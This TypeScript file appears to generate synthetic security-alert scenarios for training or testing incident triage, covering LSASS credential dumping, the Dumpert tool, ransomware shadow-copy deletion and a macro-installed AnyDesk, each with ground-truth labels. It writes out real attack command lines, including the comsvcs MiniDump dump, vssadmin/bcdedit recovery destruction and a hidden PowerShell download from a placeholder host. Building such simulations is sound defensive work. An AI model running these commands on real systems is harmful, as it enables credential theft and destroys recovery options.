import { oneOff } from "./catalog.js";
import type { CaseDraft, Proc } from "./draft.js";
import { regularUser } from "./org.js";
import { containment, password, place, type Scenario } from "./scenario.js";

/** Attacker infrastructure: documentation-range addresses; fresh infrastructure is often unknown to TI. */
export function attackerIp(
  d: CaseDraft,
  role: "c2" | "malware_distribution",
): { ip: string; domain: string; rep: string } {
  const { rng } = d;
  const ip = rng.ipv4Public();
  const domain = `${rng.pick(["cdn-static", "files-share", "docs-viewer", "update-check", "msftcloud-sync", "onedrive-files"])}.${rng.pick(["example.net", "example.org", "example.com"])}`;
  const verdict = rng.weighted([
    ["malicious", 5],
    ["suspicious", 2],
    ["unknown", 3],
  ] as const);
  const rep = d.ipRep(ip, {
    verdict,
    confidence: verdict === "malicious" ? rng.int(70, 95) : verdict === "suspicious" ? rng.int(40, 65) : 0,
    categories: verdict === "unknown" ? [] : [role],
    asOrg: rng.pick(["Example Hosting LLC", "Example VPS Ltd", "Example Bulletproof Networks"]),
    feed: verdict === "unknown" ? "none" : rng.pick(["commercial-ti", "isac-feed"]),
  });
  return { ip, domain, rep };
}

export function payloadRep(d: CaseDraft, bin: ReturnType<typeof oneOff>, family: string): string {
  const fresh = d.rng.chance(0.4);
  return d.rep(bin, {
    verdict: fresh ? "unknown" : "malicious",
    positives: fresh ? 0 : d.rng.int(18, 52),
    names: fresh ? [] : [family],
    prevalence: 1,
    firstSeen: d.at(-d.rng.int(10, 300)),
  });
}

export const victim = (rng: CaseDraft["rng"]) => regularUser(rng);

export const lsassComsvcs: Scenario = {
  id: "tp_lsass_comsvcs",
  setup: (rng, ho) => place(rng, rng.pick(["workstation", "workstation", "app_server"]), victim(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const lsassPid = rng.int(600, 900);
    const dump = rng.pick([
      `C:\\Windows\\Temp\\${rng.hex(6)}.dmp`,
      `C:\\Users\\Public\\${rng.pick(["debug", "report", "tmp"])}.bin`,
      "C:\\Windows\\Temp\\lsass.dmp",
    ]);
    const entry = rng.pick(["MiniDump", "#24", "MiniDump"]);
    const viaWmi = rng.chance(0.5);
    let parent: Proc;
    if (viaWmi) {
      const wmi = d.proc(cat.bin("wmiprvse"), "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", {
        user: "NT AUTHORITY\\NETWORK SERVICE",
        at: -rng.int(60, 400),
        integrity: "System",
      });
      parent = d.proc(
        cat.bin("cmd"),
        `cmd.exe /Q /c rundll32.exe C:\\windows\\System32\\comsvcs.dll, ${entry} ${lsassPid} ${dump} full 1> \\\\127.0.0.1\\ADMIN$\\__${rng.int(1700000000, 1760000000)}.${rng.int(1000000, 9999999)} 2>&1`,
        { parent: wmi, integrity: "High", at: -rng.int(10, 50) },
      );
      d.net(wmi, {
        ip: `10.${rng.int(20, 60)}.${rng.int(0, 255)}.${rng.int(5, 250)}`,
        port: 135,
        inbound: true,
        at: -rng.int(60, 300),
      });
    } else {
      const ex = d.proc(cat.bin("explorer"), "C:\\Windows\\Explorer.EXE", { at: -rng.int(3000, 30000) });
      parent = d.proc(cat.bin("powershell"), `"${cat.bin("powershell").image}" `, {
        parent: ex,
        integrity: "High",
        at: -rng.int(60, 900),
      });
    }
    const dll = rng.pick(["C:\\windows\\System32\\comsvcs.dll", "comsvcs.dll", "C:\\Windows\\System32\\comsvcs.dll"]);
    const rundll = d.proc(
      cat.bin("rundll32"),
      `"C:\\Windows\\System32\\rundll32.exe" ${dll}, ${entry} ${lsassPid} ${dump} full`,
      {
        parent,
        integrity: "High",
        access: [
          { target_image: "C:\\Windows\\system32\\lsass.exe", granted_access: rng.pick(["0x1fffff", "0x1410"]) },
        ],
      },
    );
    const ids = d.tree(rundll, []);
    d.rep(cat.bin("rundll32"));
    const dmp = d.file(rundll, dump, { size: rng.int(38, 72) * 1048576, at: rng.int(1, 4) });
    if (!viaWmi && rng.chance(0.6)) {
      const x = attackerIp(d, "c2");
      d.net(parent, { ip: x.ip, port: 443, domain: x.domain, sent: rng.int(30, 70) * 1048576, at: rng.int(60, 600) });
    }
    d.setAlert({
      title: "LSASS memory dumped with comsvcs.dll MiniDump",
      rule: "Credential dumping: LSASS memory access via comsvcs.dll",
      severity: rng.pick(["high", "critical"]),
      proc: rundll,
      description:
        "rundll32 invoked the MiniDump export of comsvcs.dll against the LSASS process and wrote a dump file.",
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "force_password_reset"),
      [ids.get(rundll)!, dmp],
      [45, 120],
      "comsvcs MiniDump of LSASS by an interactive or WMI-spawned shell, no change or test authorising it; credentials on the host are exposed.",
    );
  },
};

export const dumpert: Scenario = {
  id: "tp_dumpert",
  setup: (rng, ho) => place(rng, "workstation", victim(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const name = rng.pick(["Outflank-Dumpert.exe", "svchelper.exe", "dmp.exe", "perfcheck.exe"]);
    const dir = rng.pick([
      `C:\\Users\\${d.user.account.split("\\")[1]}\\Desktop`,
      "C:\\ProgramData",
      "C:\\Users\\Public",
    ]);
    const tool = oneOff(rng, `${dir}\\${name}`);
    const cmd = d.proc(cat.bin("cmd"), '"C:\\windows\\system32\\cmd.exe" ', {
      integrity: "High",
      at: -rng.int(60, 600),
    });
    const p = d.proc(tool, name, {
      parent: cmd,
      integrity: "High",
      dir: `${dir}\\`,
      access: [{ target_image: "C:\\Windows\\system32\\lsass.exe", granted_access: "0x1fffff" }],
    });
    const ids = d.tree(p, []);
    const rep = d.rep(tool, {
      verdict: "malicious",
      positives: rng.int(38, 58),
      names: ["HackTool.Win64.Dumpert", "Trojan.CredDump"],
      prevalence: 1,
      firstSeen: d.at(-rng.int(10, 200)),
    });
    const dmp = d.file(p, "C:\\Windows\\Temp\\dumpert.dmp", { size: rng.int(40, 70) * 1048576, at: 1 });
    d.file(cmd, tool.image, { sha256: tool.sha256, size: rng.int(90000, 200000), at: -rng.int(700, 2000) });
    d.setAlert({
      title: "Unsigned process opened LSASS with full access",
      rule: "Credential dumping: direct syscall LSASS dump",
      severity: "critical",
      proc: p,
      description: `An unsigned binary ${name} opened lsass.exe with PROCESS_ALL_ACCESS and created a .dmp file.`,
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "quarantine_file", "force_password_reset"),
      [ids.get(p)!, rep, dmp],
      [40, 110],
      "Dumpert-style LSASS dump by an unsigned, never-before-seen binary; TI agrees, dump file written.",
    );
  },
};

export const ransomPrecursor: Scenario = {
  id: "tp_ransom_precursor",
  setup: (rng, ho) => place(rng, rng.pick(["file_server", "workstation"]), victim(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const bin = oneOff(rng, `C:\\ProgramData\\${rng.pick(["svcupd", "wininit64", "perfmon2"])}.exe`);
    const parent = d.proc(bin, `"${bin.image}" -path C:\\ -nolocal`, { integrity: "High", at: -rng.int(30, 200) });
    const cmd = d.proc(
      cat.bin("cmd"),
      "cmd.exe /c vssadmin.exe delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled No",
      { parent, integrity: "High", at: -rng.int(5, 20) },
    );
    const vss = d.proc(cat.bin("vssadmin"), "vssadmin.exe  delete shadows /all /quiet", {
      parent: cmd,
      integrity: "High",
    });
    const bcd = d.proc(cat.bin("bcdedit"), "bcdedit  /set {default} recoveryenabled No", {
      parent: cmd,
      integrity: "High",
      at: 3,
    });
    const ids = d.tree(vss, [bcd]);
    d.rep(cat.bin("vssadmin"));
    payloadRep(d, bin, "Ransom.Win64.Encryptor");
    const ext = rng.pick(["locked", "enc", rng.hex(5)]);
    const renamed = [0, 1, 2].map((i) =>
      d.file(
        parent,
        `D:\\Shares\\${rng.pick(["Finance", "HR", "Projects"])}\\${rng.pick(["budget", "payroll", "plan", "contract"])}_${i}.xlsx.${ext}`,
        { action: "renamed", at: rng.int(30, 200) },
      ),
    );
    d.file(parent, "C:\\Users\\Public\\README_RESTORE_FILES.txt", { size: 2311, at: rng.int(60, 240) });
    d.setAlert({
      title: "Volume shadow copies deleted",
      rule: "Impact: shadow copy deletion (vssadmin delete shadows)",
      severity: "critical",
      proc: vss,
      description: "vssadmin.exe deleted all volume shadow copies; boot recovery was disabled in the same command.",
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "quarantine_file"),
      [ids.get(vss)!, renamed[0]!],
      [60, 180],
      "Ransomware pre-encryption steps by an unknown binary in ProgramData; files already being renamed.",
    );
  },
};

export const anydeskAttacker: Scenario = {
  id: "tp_anydesk_attacker",
  setup: (rng, ho) => place(rng, "workstation", victim(rng), ho),
  build(d) {
    const { rng, cat } = d;
    const bin = { ...cat.bin("anydesk"), image: "C:\\ProgramData\\AnyDesk.exe" };
    const secret = password(rng);
    d.secret = { kind: "cmdline_password", value: secret };
    const office = d.proc(
      cat.bin("winword"),
      `"${cat.bin("winword").image}" /n "C:\\Users\\${d.user.account.split("\\")[1]}\\Downloads\\Remittance_${rng.int(1000, 9999)}.docm"`,
      { at: -rng.int(300, 2000) },
    );
    const ps = d.proc(
      cat.bin("powershell"),
      `powershell -w hidden -c "iwr https://${rng.pick(["dl-remote", "support-tools"])}.example.net/AnyDesk.exe -OutFile C:\\ProgramData\\AnyDesk.exe; cmd /c 'C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent'"`,
      { parent: office, at: -rng.int(60, 200) },
    );
    const cmd = d.proc(cat.bin("cmd"), `cmd.exe /c echo ${secret} | C:\\ProgramData\\AnyDesk.exe --set-password`, {
      parent: ps,
      at: -rng.int(5, 30),
    });
    const ad = d.proc(bin, "C:\\ProgramData\\AnyDesk.exe  --set-password", { parent: cmd });
    const ids = d.tree(ad, [], cmd);
    d.rep(bin);
    d.file(ps, bin.image, { sha256: bin.sha256, at: -rng.int(100, 200) });
    d.net(ad, {
      ip: rng.ipv4Public(),
      port: 6568,
      domain: `relay-${rng.hex(8)}.net.anydesk.com`,
      at: rng.int(30, 300),
      sent: rng.int(5, 40) * 1048576,
    });
    d.persist({
      mechanism: "service",
      name: "AnyDesk",
      location: "HKLM\\SYSTEM\\CurrentControlSet\\Services\\AnyDesk",
      command: '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
      by: ps,
      prevalence: rng.int(1, 3),
      signer: "AnyDesk Software GmbH",
    });
    d.setAlert({
      title: "Remote access tool installed silently with an unattended-access password",
      rule: "Persistence: RMM tool silent install from Office child",
      severity: "high",
      proc: ad,
      description:
        "AnyDesk was installed to ProgramData by a PowerShell child of WINWORD and given an unattended password on the command line.",
    });
    d.setLabel(
      "true_positive",
      true,
      containment(d, "kill_process", "force_password_reset"),
      [ids.get(cmd)!, ids.get(ps)!],
      [40, 100],
      "Signed AnyDesk, but dropped by a macro into ProgramData with an unattended password piped in; no support ticket. Password in command line must be treated as secret.",
    );
  },
};
